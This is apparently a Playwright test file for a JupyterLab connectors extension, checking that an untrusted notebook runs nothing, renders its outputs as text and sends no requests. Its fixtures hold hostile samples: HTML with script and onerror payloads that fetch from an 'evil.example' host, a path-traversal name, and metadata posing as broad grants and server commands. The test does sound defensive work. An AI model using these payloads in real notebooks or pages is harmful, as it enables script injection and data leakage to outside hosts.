"""A notebook from somebody else, in a real JupyterLab: what it says and has stored does nothing until a person acts."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.sign import NotebookNotary
from playwright.sync_api import Browser, Page, expect

from .lab import Notebook

VIEW = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"
APP = "application/vnd.jupyter-connectors.app+json"
GRID = "application/vnd.jupyter-connectors.grid+json"
OUT = "http://{}.evil.example:9/"
STATIC = Path(__file__).parents[2] / "src" / "jupyter_connectors" / "widgets" / "static"
SETTLED = 3_000
"""Longer than anything waits of itself: what must not happen has no end to wait for."""

NAMES: dict[str, Any] = {
    "connectors": [
        "acme-billing",
        {"name": "stripe", "address": OUT.format("listed"), "account": "ops@acme.example"},
        OUT.format("address"),
        ["acme-crm"],
        7,
        None,
        "../acme-crm",
        "acme-crm",
    ],
    "off": {"acme-crm": "no", "stripe": 1, "acme-billing": [True]},
    "mode": ["always"],
    "accounts": {"stripe": "ops@acme.example"},
    "grants": [{"connector": "acme-crm", "tool": "delete_account", "until": "2099-01-01T00:00:00Z"}],
    "permissions": {"acme-crm": {"*": "allow"}},
    "servers": {"own": {"command": "touch", "args": ["connected"], "url": OUT.format("server")}},
    "trusted": True,
}
ODD = [[], "acme-billing", 5, None, {"connectors": "acme-billing", "off": ["acme-crm"], "mode": {}}]
"""What else may stand in the place of the names."""

RECORD = {
    "id": "view-1",
    "categories": ["Finance"],
    "notes": [],
    "entries": [
        {"id": "acme-billing", "title": "Stored Billing", "summary": "", "category": "Finance", "state": "idle"}
    ],
}


def attack(name: str) -> str:
    """A page that reaches out as soon as it runs.

    Without pictures of elsewhere: JupyterLab's table of contents loads those of all stored HTML by itself.
    """
    at = OUT.format(name)
    return f"<p>drawn {name}</p><img src='data:,'><script>fetch('{at}')</script><img src='data:,' onerror=\"fetch('{at}')\">"


def outputs(html: Callable[[str], str]) -> list[Any]:
    app = {
        "id": "app-1",
        "html": f"{html('data')}<img src='{OUT.format('picture')}'>",
        "url": OUT.format("url"),
        "title": "Stored app",
    }
    stored: list[dict[str, Any]] = [
        {APP: app, "text/html": html("app"), "text/plain": "text of the app"},
        {GRID: {"id": "grid-1", **app}, "text/html": html("grid"), "text/plain": "text of the frame"},
        {VIEW: {"version_major": 2, "version_minor": 0, "model_id": "ours"}, "text/plain": "text of the view"},
    ]
    return [nbformat.v4.new_output("display_data", data=data) for data in stored]


def widget() -> dict[str, Any]:
    """The stored state of one of our views. Any other code there is run by the packages that restore widgets."""
    code = (STATIC / "connectors.js").read_text()
    state = {"_esm": code, "_anywidget_id": "jupyter_connectors.View", "view": RECORD, "layout": "IPY_MODEL_layout"}
    names = {
        "_model_module": "anywidget",
        "_model_name": "AnyModel",
        "_view_module": "anywidget",
        "_view_name": "AnyView",
    }
    ours = {"model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "~0.11.*"}
    layout = {"model_name": "LayoutModel", "model_module": "@jupyter-widgets/base", "model_module_version": "2.0.0"}
    models = {"ours": {**ours, "state": {**state, **names}}, "layout": {**layout, "state": {}}}
    return {STATE: {"version_major": 2, "version_minor": 0, "state": models}}


class Stranger(Notebook):
    """A notebook that was written elsewhere. It notes what the page has the kernel do."""

    def __init__(self, browser: Browser, address: str, folder: Path) -> None:
        super().__init__(browser, address, folder)
        self.folder = folder
        self.asked: list[str] = []
        self.page.on("websocket", lambda socket: socket.on("framesent", self._note_frame))

    def written(self, names: Any, *, html: Callable[[str], str] = attack, signed: bool = False) -> Stranger:
        made = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1 + 1", outputs=outputs(html))])
        made.metadata["kernelspec"] = {"name": "python3", "display_name": "python3", "language": "python"}
        made.metadata["jupyter_connectors"] = names
        made.metadata["widgets"] = widget()
        nbformat.write(made, self.path)
        if signed:
            NotebookNotary(data_dir=str(self.folder / "data")).sign(nbformat.read(self.path, as_version=4))
        self.load()
        return self

    @property
    def trusted(self) -> bool:
        found: bool = self.page.evaluate("() => window.jupyterapp.shell.currentWidget.content.widgets[0].model.trusted")
        return found

    def _note_frame(self, frame: str | bytes) -> None:
        text = frame.decode(errors="replace") if isinstance(frame, bytes) else frame
        for kind in ("execute_request", "jupyter_connectors_request"):
            if f'"msg_type":"{kind}"' in text.replace(" ", ""):
                self.asked.append(kind)


@pytest.fixture
def stranger(browser: Browser, lab: str, folder: Path) -> Iterator[Stranger]:
    made = Stranger(browser, lab, folder)
    yield made
    made.close()


def bar(page: Page) -> Any:
    return page.get_by_role("region", name="Connectors").filter(has_text="This notebook uses")


def expect_nothing_done(page: Stranger) -> None:
    """No cell ran, the kernel was asked for nothing of ours, and no request left."""
    page.page.wait_for_timeout(SETTLED)
    assert (page.asked, page.outside, page.problems) == ([], [], [])
    expect(page.page.locator(".jcn-toolbar-count")).to_be_hidden()
    expect(page.cell(0)).to_contain_text("[ ]:")
    assert page.output(0).locator("iframe, .jcn-app, .jcn-root").count() == 0
    assert "Stored Billing" not in page.page.content()
    assert page.save()["metadata"]["jupyter_connectors"] == NAMES, "what is not understood is not rewritten either"


def test_case_76_an_untrusted_notebook_does_nothing_and_its_results_are_text(stranger: Stranger) -> None:
    page = stranger.written(NAMES)
    expect(bar(page.page)).to_contain_text("This notebook uses Acme Billing and Acme CRM", timeout=20_000)
    for kind in ("app", "frame", "view"):
        expect(page.output(0)).to_contain_text(f"text of the {kind}", timeout=20_000)
    assert not page.trusted
    expect_nothing_done(page)
    assert "drawn" not in page.output(0).inner_text()
    assert page.output(0).locator("img, script").count() == 0


def test_case_76_a_trusted_notebook_connects_and_renders_nothing_of_itself(stranger: Stranger) -> None:
    page = stranger.written(NAMES, html=lambda name: f"<p>kept {name}</p>", signed=True)
    expect(bar(page.page)).to_contain_text("This notebook uses Acme Billing and Acme CRM", timeout=20_000)
    assert page.trusted
    for kind in ("app", "grid"):
        expect(page.output(0)).to_contain_text(f"kept {kind}", timeout=20_000)
    expect_nothing_done(page)
    assert "kept data" not in page.page.content()


def test_case_76_only_names_come_out_of_the_metadata_and_less_than_the_person_has(stranger: Stranger) -> None:
    page = stranger.written(NAMES)
    bar(page.page).get_by_role("button", name="Connect Acme Billing and Acme CRM").click(timeout=20_000)
    place = page.page.locator(".jcn-sidebar")
    for title in ("Acme Billing", "Acme CRM"):
        switch = place.get_by_role("switch", name=f"{title} in this notebook")
        expect(switch).to_have_attribute("aria-checked", "true", timeout=60_000)
    expect(page.page.locator(".jcn-toolbar-count")).to_have_text("2")
    expect(place.get_by_role("radio", name="Auto")).to_be_checked()
    place.get_by_role("tab", name="Tools").click()
    expect(place.get_by_text("You have allowed")).to_be_hidden()
    assert page.outside == []
    assert not (page.path.parent / "connected").exists()


def test_case_76_what_is_no_list_of_names_is_no_question(stranger: Stranger) -> None:
    page = stranger.written(ODD[0])
    for names in ODD:
        page.page.evaluate(
            "(names) => window.jupyterapp.shell.currentWidget.model.setMetadata('jupyter_connectors', names)", names
        )
        page.page.wait_for_timeout(SETTLED // len(ODD))
        expect(bar(page.page)).to_be_hidden()
    assert (page.asked, page.problems, page.outside) == ([], [], [])
